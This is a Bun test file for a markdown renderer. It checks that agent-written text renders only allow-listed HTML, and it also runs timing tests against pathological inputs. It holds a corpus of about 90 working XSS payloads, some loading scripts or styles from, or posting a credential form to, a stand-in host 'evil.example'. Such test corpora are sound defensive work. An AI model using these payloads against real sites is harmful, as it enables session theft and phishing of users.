import { describe, expect, test } from 'bun:test'
import { renderMarkdown } from '../../src/core/markdown.ts'
import { visible } from '../../src/core/visible.ts'

const CODE = 'alert(1)'
const PAYLOADS = [
  `<script>${CODE}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<script\n>${CODE}</script\n>`,
  `<script/x>${CODE}</script>`,
  `<img src=x onerror=${CODE}>`,
  `<img src="x" onerror="${CODE}"`,
  `<img/src=x/onerror=${CODE}>`,
  `<img src=x onerror\n=${CODE}>`,
  `<IMG """><SCRIPT>${CODE}</SCRIPT>">`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CODE}"><text y="20">x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${CODE}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${CODE}">x</math>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${CODE}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style><img src=x onerror=${CODE}></style>`,
  `<form action="https://evil.example"><input name=key><button>Sign in</button></form>`,
  `<input autofocus onfocus=${CODE}>`,
  `<select autofocus onfocus=${CODE}></select>`,
  `<details open ontoggle=${CODE}>x</details>`,
  `<video><source onerror=${CODE}></video>`,
  `<audio src=x onerror=${CODE}>`,
  `<body onload=${CODE}>`,
  `<marquee onstart=${CODE}>x</marquee>`,
  `<div style="background:url(javascript:${CODE})">x</div>`,
  `<p style="position:fixed;inset:0">cover</p>`,
  `<a href="javascript:${CODE}">x</a>`,
  `<a href="JaVaScRiPt:${CODE}">x</a>`,
  `<a href=" javascript:${CODE}">x</a>`,
  `<a href="jav&#x09;ascript:${CODE}">x</a>`,
  `<a href="&#106;avascript:${CODE}">x</a>`,
  `<a href="data:text/html,<script>${CODE}</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="x" onclick="${CODE}">x</a>`,
  `<a id="roster" name="roster" data-hx-get="/x" hx-get="/x" hx-on:click="${CODE}">x</a>`,
  `<div hx-get="/settings" hx-trigger="load">x</div>`,
  `<div data-hx-post="/settings/mcp-url" data-hx-trigger="load">x</div>`,
  `<hx-partial hx-target="#feed">x</hx-partial>`,
  `<template><script>${CODE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>"></noscript>`,
  `<textarea></textarea><script>${CODE}</script>`,
  `<title></title><script>${CODE}</script>`,
  `<xmp><img src=x onerror=${CODE}></xmp>`,
  `<plaintext><script>${CODE}</script>`,
  `<!--><script>${CODE}</script>-->`,
  `<![CDATA[><script>${CODE}</script>]]>`,
  `<?xml version="1.0"?><script>${CODE}</script>`,
  `[x](javascript:${CODE})`,
  `[x](JAVASCRIPT:${CODE})`,
  `[x](java\tscript:${CODE})`,
  `[x](<javascript:${CODE}>)`,
  `[x](&#106;avascript:${CODE})`,
  `[x](javascript&colon;${CODE})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox)`,
  `[x](//evil.example/x)`,
  `[x](https://a.example "t\\" onmouseover=\\"${CODE}")`,
  `[x](https://a.example/"onmouseover="${CODE})`,
  `[x]: javascript:${CODE}\n\n[x]`,
  `<javascript:${CODE}>`,
  `![x](javascript:${CODE})`,
  `![x](x" onerror="${CODE})`,
  `![<img src=x onerror=${CODE}>](https://a.example/b.png)`,
  `![" onerror="${CODE}](https://a.example/b.png)`,
  '```"><script>alert(1)</script>\nx\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
  '# <svg onload=alert(1)>',
  '- [x] <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `<sc\u0000ript>${CODE}</sc\u0000ript>`,
  `<a\u2028href="javascript:${CODE}">x</a>`,
  `<<script>${CODE}//<</script>`,
  `"><img src=x onerror=${CODE}>`,
  `'-${CODE}-'`,
  `<x onpointerrawupdate=${CODE} style=display:block>x</x>`,
]

const TAGS = /^(h[1-6]|p|br|hr|blockquote|pre|code|em|strong|del|a|span|ul|ol|li|table|thead|tbody|tr|th|td)$/
const ATTRIBUTES = /^(href|title|rel|target|tabindex|class|role|aria-label|align|start)$/

interface Found {
  tag: string
  attributes: [string, string][]
}

const elementsOf = (html: string): Found[] => {
  const found: Found[] = []
  new HTMLRewriter()
    .on('*', { element: ({ tagName, attributes }) => void found.push({ tag: tagName, attributes: [...attributes] as [string, string][] }) })
    .transform(html)
  return found
}

describe('what an agent writes stays text', () => {
  for (const payload of PAYLOADS) {
    test(JSON.stringify(payload), () => {
      for (const { tag, attributes } of elementsOf(renderMarkdown(payload))) {
        expect(tag).toMatch(TAGS)
        for (const [name, value] of attributes) {
          expect(name).toMatch(ATTRIBUTES)
          if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|[/#?.]|[^:]*$)/)
          if (name === 'href') expect(value).not.toStartWith('//')
          if (name === 'class') expect(value).toMatch(/^(hl-[kscn]|cb|cb cb-on|ctl)$/)
        }
      }
    })
  }
})

test('the corpus has at least 60 payloads', () => expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(60))

test('ordinary markdown keeps its shape', () => {
  const html = renderMarkdown(
    '# Goals\n\nMove **all** of `it`:\n\n- [x] done\n- [ ] open\n\n|a|b|\n|-|-:|\n|1|2|\n\n```ts\nconst a = 1 // why\n```',
  )
  expect(html).toContain('<h1>Goals</h1>')
  expect(html).toContain('<strong>all</strong>')
  expect(html).toContain('<span class="cb cb-on" role="img" aria-label="done"></span>')
  expect(html).toContain('<td align="right">2</td>')
  expect(html).toContain('<span class="hl-k">const</span>')
  expect(html).toContain('<span class="hl-c">// why</span>')
})

test('links leave without a referrer and images become links', () => {
  expect(renderMarkdown('[x](https://a.example)')).toContain('rel="noopener noreferrer nofollow ugc"')
  const image = renderMarkdown('![a graph](https://a.example/b.png)')
  expect(image).not.toContain('<img')
  expect(image).toContain('href="https://a.example/b.png"')
  expect(image).toContain('a graph')
})

test('direction and tag characters are shown, also when written as entities', () => {
  for (const text of ['a\u202eb', 'a&#x202e;b']) expect(renderMarkdown(text)).toContain('a<span class="ctl">U+202E</span>b')
  expect(renderMarkdown('[x](https://a.example/\u202e)')).not.toContain('\u202e')
  expect(visible('a\u{e0041}b')).toBe('a⟨U+E0041⟩b')
})

const KIB_32 = 32 * 1024
const filled = (piece: string) => piece.repeat(Math.ceil(KIB_32 / piece.length)).slice(0, KIB_32)
const HOSTILE: Record<string, string> = {
  'nested quotes': filled('>'),
  'nested quotes and lists': filled('> - '),
  'nested numbers': filled('1. '),
  underscores: filled('_a_'),
  stars: filled('*a '),
  brackets: filled('['),
  links: filled('[a]('),
  'open tags': filled('<a '),
  addresses: filled('a@b.'),
  spaces: `a${filled(' ')}b`,
  backticks: Array.from({ length: 250 }, (_, i) => '`'.repeat(i)).join(' '),
  'open comments in code': '```\n' + filled('/*').slice(0, 8_000) + '\n```',
  'one paragraph of half a megabyte': 'lorem ipsum '.repeat(43_000),
  'paragraphs of underscores': Array.from({ length: 6 }, () => '_a_'.repeat(1_800)).join('\n\n'),
}

describe('a hostile text of 32 KiB holds nobody up', () => {
  for (const [name, text] of Object.entries(HOSTILE)) {
    test(name, () => {
      const began = performance.now()
      expect(renderMarkdown(text).length).toBeGreaterThan(0)
      expect(performance.now() - began).toBeLessThan(2_000)
    })
  }
})

test('the second time costs nothing', () => {
  const text = `${filled('lorem ipsum ')}.`
  const html = renderMarkdown(text)
  const began = performance.now()
  for (let i = 0; i < 1_000; i++) expect(renderMarkdown(text) === html).toBe(true)
  expect(performance.now() - began).toBeLessThan(500)
})
